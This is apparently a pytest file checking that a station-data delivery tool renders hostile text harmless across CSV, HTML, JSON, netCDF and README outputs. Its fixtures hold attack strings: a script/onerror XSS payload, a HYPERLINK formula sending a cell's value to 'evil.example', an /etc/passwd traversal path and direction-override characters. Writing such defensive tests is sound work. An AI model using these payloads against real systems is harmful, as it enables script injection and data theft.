"""Names, notes and columns that would like to be something else come out harmless in every file."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.delivery.runs import delivered, rows_of, station_text, written

HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
PATH = "../../../../etc/passwd"
TURNED = "gpj.\u202egninraw\u202c\u2066fdp\u2069"  # right-to-left override, isolate
LONG = "a" * 10_000
BELLS = "ring\x07 \x1b[31mred\x1b[0m\x85 \u2028 \u2029 \x00nul"

NAMES = {"html": HTML, "formula": FORMULA, "path": PATH, "turned": TURNED, "long": LONG[:3900], "bells": BELLS}


def toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)


def quoted(text: str) -> str:
    clean = text.replace("\x00", "").replace("\x85", "").replace("\u2028", "").replace("\u2029", "")
    return '"' + clean.replace('"', '""') + '"'


@pytest.fixture(scope="module", params=sorted(NAMES))
def out(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A delivery with one kind of hostile text wherever a person may write some."""
    bad = NAMES[request.param]
    where = tmp_path_factory.mktemp(request.param)
    keys = "\n".join(f'{kind} = "{kind}.csv"' for kind in ("visits", "decisions", "corrections"))
    text = station_text(("t", "word"), logs=keys)
    text = text.replace('name = "Moor"', f"name = {toml(bad)}")
    text += f"sensor = {toml(bad)}\nrail = {toml(bad)}\n"
    text += f"[[channel.deployment]]\nfrom = 2026-01-01T00:00:00Z\nserial = {toml(bad)}\ncertificate = {toml(bad)}\n"
    column = bad[:300].replace('"', "'") if request.param != "bells" else "ring"
    text = text.replace('column = "word"', f"column = {toml(column)}")
    if bad[:80].isprintable():  # others are refused
        text = text.replace('unit = "1"', f"unit = {toml(bad[:80])}")
    text += f"[rules]\nrange.air_temperature.high = {{ value = 15.0, reason = {toml(bad)} }}\n"
    note = quoted(bad)
    logs = {
        "visits": f"from,to,channels,effect,note\n2026-06-01T03:00,2026-06-01T03:30,all,note,{note}\n"
        f"2026-06-01T04:00,2026-06-01T04:30,t,disturbed,{note}\n",
        "decisions": "from,to,channel,verdict,reason,by,decided\n"
        f"2026-06-01T08:00,2026-06-01T08:30,t,wrong,{note},{note},2026-07-02\n",
        "corrections": "from,to,channel,operation,parameter,reason,by,decided\n"
        f"2026-06-01T06:00,2026-06-01T07:00,t,offset,0.5,{note},{note},2026-07-01\n",
    }
    rows = rows_of(("t", "word")).splitlines()
    rows[0] = f"time,t,{quoted(column) if ',' in column or chr(34) in column else column}"
    rows[5] = f"{rows[5].split(',')[0]},{quoted(bad[:200])},1"  # a cell that is no number
    of = written(where / "in", ("t", "word"), "\n".join(rows) + "\n", text=text, **logs)
    folder = where / "out"
    delivered(of, [where / "in" / "moor.csv"], folder, formats=("csv", "parquet", "netcdf"), drawn=True,
              licence=bad, contact=bad, owner=bad)  # fmt: skip
    assert set(where.iterdir()) == {where / "in", folder}
    return folder


def files(out: Path, *ends: str) -> list[Path]:
    found = [p for p in sorted(out.rglob("*")) if p.is_file() and p.name.endswith(ends)]
    assert found
    return found


def test_no_cell_is_a_formula(out: Path) -> None:
    for path in files(out, ".csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not re.match(r"[=+@\t\r]|-[^0-9.]", cell), (path.name, cell[:80])


def test_a_row_is_a_line_and_cells_are_cut(out: Path) -> None:
    for path in files(out, ".csv"):
        raw = path.read_text("utf-8")
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        assert len({len(row) for row in rows}) == 1, path
        assert len(rows) == raw.count("\n"), path
        assert max(len(cell) for row in rows for cell in row) <= 4001, path


def test_nothing_turns_the_line_or_rings(out: Path) -> None:
    """In what people read: no control characters and no change of direction, but in the station file, which is a copy,
    and in the logger's own cell, which stands as it stood."""
    for path in files(out, ".csv", ".txt", ".html", ".json", ".sha256"):
        text = path.read_text("utf-8")
        if path.parent.name == "data":
            text = "\n".join(",".join(row[:4]) for row in csv.reader(text.splitlines()))
        odd = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") and c != "\n"}
        assert not odd, (path.name, [hex(ord(c)) for c in odd])


def test_the_page_has_no_script_and_loads_nothing(out: Path) -> None:
    class Seen(HTMLParser):
        tags: list[tuple[str, dict[str, str | None]]]

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.append((tag, dict(attrs)))

    seen = Seen()
    seen.tags = []
    page = (out / "report.html").read_text("utf-8")
    seen.feed(page)
    names = {tag for tag, _ in seen.tags}
    assert "script" not in names and "iframe" not in names and "html" in names
    for tag, attrs in seen.tags:
        assert not [a for a in attrs if a.startswith("on")], tag
        assert (attrs.get("src") or "data:").startswith("data:"), (tag, attrs.get("src"))
    assert "Content-Security-Policy" in page


def test_names_of_files_are_its_own(out: Path) -> None:
    for path in out.rglob("*"):
        assert re.fullmatch(r"[A-Za-z0-9_.-]+", path.name), path


def test_the_readme_stays_a_page(out: Path) -> None:
    text = (out / "README.txt").read_text("utf-8")
    assert len(text) < 20_000
    assert next(line for line in text.splitlines() if re.match(r"[1-7] [A-Z]", line)) == "1 Is it complete?"


def test_metadata_is_data(out: Path) -> None:
    for path in files(out, ".json"):
        json.loads(path.read_text("ascii"))
    import h5netcdf

    with h5netcdf.File(next((out / "data").glob("*.nc"))) as file:
        for name, value in [*file.attrs.items(), *file["t"].attrs.items()]:
            if isinstance(value, str):
                assert value.isprintable() and len(value) <= 4000, name
